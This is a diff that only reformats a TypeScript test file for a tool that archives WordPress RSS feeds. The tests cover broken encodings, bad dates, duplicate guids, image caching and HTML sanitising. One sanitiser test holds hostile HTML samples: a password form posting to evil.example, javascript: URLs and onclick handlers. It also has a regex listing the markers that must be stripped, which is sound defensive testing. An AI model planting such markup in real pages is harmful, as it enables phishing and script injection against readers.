@@ -7,7 +7,14 @@ import type { FeedServer } from '../../helpers/feed-server';
 import { serveBody } from '../../helpers/feed-server';
 import { makePosts, rssPage, type ArchivePost } from '../../helpers/wordpress-feed';
 import { GIF, PNG, pngOfSize } from '../assets/fixtures';
-import { archiveOn, expectComplete, openBench, resultFor, startServer, type Bench } from './engine-fixtures';
+import {
+  archiveOn,
+  expectComplete,
+  openBench,
+  resultFor,
+  startServer,
+  type Bench,
+} from './engine-fixtures';
 
 const RSS = { 'content-type': 'application/rss+xml; charset=UTF-8' };
 
@@ -16,7 +23,10 @@ function servePages(server: FeedServer, path: string, pages: (string | Buffer)[]
   server.route(path, (req, res) => {
     const page = Number(new URL(req.url ?? '/', server.origin).searchParams.get('paged') ?? '1');
     const body = pages[page - 1];
-    serveBody(body ?? 'Page not found', { status: body === undefined ? 404 : 200, headers: RSS })(req, res);
+    serveBody(body ?? 'Page not found', { status: body === undefined ? 404 : 200, headers: RSS })(
+      req,
+      res,
+    );
   });
   return { id: path.split('/').filter(Boolean).join('-'), url: server.url(path), kind: 'archive' };
 }
@@ -42,9 +52,15 @@ async function savedItems(bench: Bench, meta: SourceMeta) {
 describe('feeds whose content is broken, synced next to a healthy archive', () => {
   it('reads a feed declared UTF-8 whose bytes are windows-1252', async () => {
     const [post] = makePosts(1);
-    const latin = { ...post!, title: 'Learner’s café – week 1', body: `${post!.body}<p>It costs €0 and it’s “fun”.</p>` };
+    const latin = {
+      ...post!,
+      title: 'Learner’s café – week 1',
+      body: `${post!.body}<p>It costs €0 and it’s “fun”.</p>`,
+    };
     const { bench, meta, report } = await withHealthy((server) =>
-      servePages(server, '/cp1252/feed/', [iconv.encode(rssPage([latin], server.origin), 'windows-1252')]),
+      servePages(server, '/cp1252/feed/', [
+        iconv.encode(rssPage([latin], server.origin), 'windows-1252'),
+      ]),
     );
     expect(resultFor(report, meta.id)).toMatchObject({ status: 'ok', itemCount: 1 });
     const [item] = await savedItems(bench, meta);
@@ -56,8 +72,17 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
 
   it('lists items with missing or impossible dates, dated when first seen', async () => {
     const posts = makePosts(4);
-    const dates = ['not a date', 'Mon, 31 Feb 2013 10:00:00 GMT', '', 'Sun, 01 Jun 2014 09:56:00 GMT'];
-    const undated = posts.map((p, i) => ({ ...p, pubDate: dates[i]!, body: i === 0 ? p.body : '<p>No send line here.</p>' }));
+    const dates = [
+      'not a date',
+      'Mon, 31 Feb 2013 10:00:00 GMT',
+      '',
+      'Sun, 01 Jun 2014 09:56:00 GMT',
+    ];
+    const undated = posts.map((p, i) => ({
+      ...p,
+      pubDate: dates[i]!,
+      body: i === 0 ? p.body : '<p>No send line here.</p>',
+    }));
     const syncedAt = '2026-11-28T10:00:00.000Z';
     const { bench, meta } = await withHealthy(
       (server) => servePages(server, '/dates/feed/', [rssPage(undated, server.origin)]),
@@ -75,12 +100,18 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
 
   it('never duplicates entries with missing or repeated guids, across pages and syncs', async () => {
     const posts = makePosts(16);
-    const same = (p: ArchivePost): ArchivePost => (p.n === 14 || p.n === 3 ? { ...p, guid: 'shared-guid' } : p);
+    const same = (p: ArchivePost): ArchivePost =>
+      p.n === 14 || p.n === 3 ? { ...p, guid: 'shared-guid' } : p;
     const { bench, meta } = await withHealthy((server) => {
-      const noGuid = (xml: string, n: number) => xml.replace(`<guid isPermaLink="false">${server.origin}/?p=${1000 + n}</guid>`, '');
-      const noLink = (xml: string, n: number) => xml.replace(`<link>${server.origin}/2013/lesson-${n}/</link>`, '');
+      const noGuid = (xml: string, n: number) =>
+        xml.replace(`<guid isPermaLink="false">${server.origin}/?p=${1000 + n}</guid>`, '');
+      const noLink = (xml: string, n: number) =>
+        xml.replace(`<link>${server.origin}/2013/lesson-${n}/</link>`, '');
       // Post 15 has no guid (keyed by link), post 16 neither (keyed by content).
-      const page1 = noLink(noGuid(noGuid(rssPage(posts.slice(0, 10).map(same), server.origin), 15), 16), 16);
+      const page1 = noLink(
+        noGuid(noGuid(rssPage(posts.slice(0, 10).map(same), server.origin), 15), 16),
+        16,
+      );
       // Page 2 repeats page 1's last post, as when an email is published during the walk.
       const page2 = rssPage(posts.slice(9).map(same), server.origin);
       return servePages(server, '/dupes/feed/', [page1, page2]);
@@ -89,10 +120,17 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
     // 16 posts; 14 and 3 share a guid, so they are one entry: the newest (14) wins.
     expect(first).toHaveLength(15);
     expect(new Set(first.map((i) => i.id)).size).toBe(15);
-    expect(first.find((i) => i.key === 'shared-guid')?.title).toBe(posts.find((p) => p.n === 14)?.title);
+    expect(first.find((i) => i.key === 'shared-guid')?.title).toBe(
+      posts.find((p) => p.n === 14)?.title,
+    );
 
     const again = await bench.sync([meta]);
-    expect(resultFor(again, meta.id)).toMatchObject({ status: 'ok', newItems: 0, updatedItems: 0, itemCount: 15 });
+    expect(resultFor(again, meta.id)).toMatchObject({
+      status: 'ok',
+      newItems: 0,
+      updatedItems: 0,
+      itemCount: 15,
+    });
     expect(await savedItems(bench, meta)).toEqual(first);
   });
 
@@ -107,10 +145,14 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
         '<form action="https://evil.example/"><input name="password"></form><object data="evil.swf"></object>' +
         '<p style="background:url(javascript:alert(6))" onclick="alert(7)">kept text</p><img src="data:image/png;base64,AAAA">',
     };
-    const { bench, meta } = await withHealthy((server) => servePages(server, '/hostile/feed/', [rssPage([hostile], server.origin)]));
+    const { bench, meta } = await withHealthy((server) =>
+      servePages(server, '/hostile/feed/', [rssPage([hostile], server.origin)]),
+    );
     const raw = await readFile(join(bench.dataDir, 'library', `${meta.id}.json`), 'utf8');
     expect(raw).toContain('kept text');
-    expect(raw).not.toMatch(/<script|<iframe|<svg|<style|<form|<input|<object|javascript:|onerror|onload|onclick|style=|data:image/i);
+    expect(raw).not.toMatch(
+      /<script|<iframe|<svg|<style|<form|<input|<object|javascript:|onerror|onload|onclick|style=|data:image/i,
+    );
     const [item] = await savedItems(bench, meta);
     expect(item?.title).not.toContain('<');
   });
@@ -119,7 +161,10 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
     const posts = makePosts(2);
     const { bench, meta, report } = await withHealthy((server) => {
       server.route('/img/small.png', serveBody(PNG, { headers: { 'content-type': 'image/png' } }));
-      server.route('/img/huge.png', serveBody(pngOfSize(6 * 1024 * 1024), { headers: { 'content-type': 'image/png' } }));
+      server.route(
+        '/img/huge.png',
+        serveBody(pngOfSize(6 * 1024 * 1024), { headers: { 'content-type': 'image/png' } }),
+      );
       server.route('/img/other.gif', serveBody(GIF, { headers: { 'content-type': 'image/gif' } }));
       const img = (name: string) => `<img src="${server.url(`/img/${name}`)}" alt="${name}">`;
       const withPictures = [
@@ -130,11 +175,15 @@ describe('feeds whose content is broken, synced next to a healthy archive', () =
     });
     expect(resultFor(report, meta.id)).toMatchObject({ status: 'ok', itemCount: 2 });
     const items = await savedItems(bench, meta);
-    const cached = items.flatMap((i) => i.images.map((image) => new URL(image.url).pathname)).sort();
+    const cached = items
+      .flatMap((i) => i.images.map((image) => new URL(image.url).pathname))
+      .sort();
     expect(cached).toEqual(['/img/other.gif', '/img/small.png']);
     expect(items.find((i) => i.html.includes('huge.png'))).toBeDefined();
     const folders = await readdir(bench.assetsDir);
     const files = (await Promise.all(folders.map((f) => readdir(join(bench.assetsDir, f))))).flat();
-    expect(files.sort()).toEqual(items.flatMap((i) => i.images.map((image) => image.file.split('/')[1])).sort());
+    expect(files.sort()).toEqual(
+      items.flatMap((i) => i.images.map((image) => image.file.split('/')[1])).sort(),
+    );
   });
 });
